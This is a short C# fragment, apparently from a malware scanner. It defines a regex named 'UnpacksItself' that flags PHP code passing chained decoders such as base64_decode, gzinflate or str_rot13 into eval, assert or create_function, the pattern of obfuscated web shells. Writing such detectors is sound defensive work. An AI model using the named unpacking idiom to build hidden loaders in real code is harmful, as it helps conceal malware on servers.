    [GeneratedRegex(@"\b(?:eval|assert|create_function)\s*\(\s*@?(?:['""]\s*['""]\s*,\s*)?(?:(?:gzinflate|gzuncompress|gzdecode|str_rot13|strrev|base64_decode|convert_uudecode|hex2bin)\s*\(\s*)+", RegexOptions.IgnoreCase | RegexOptions.CultureInvariant)]
    private static partial Regex UnpacksItself();
}
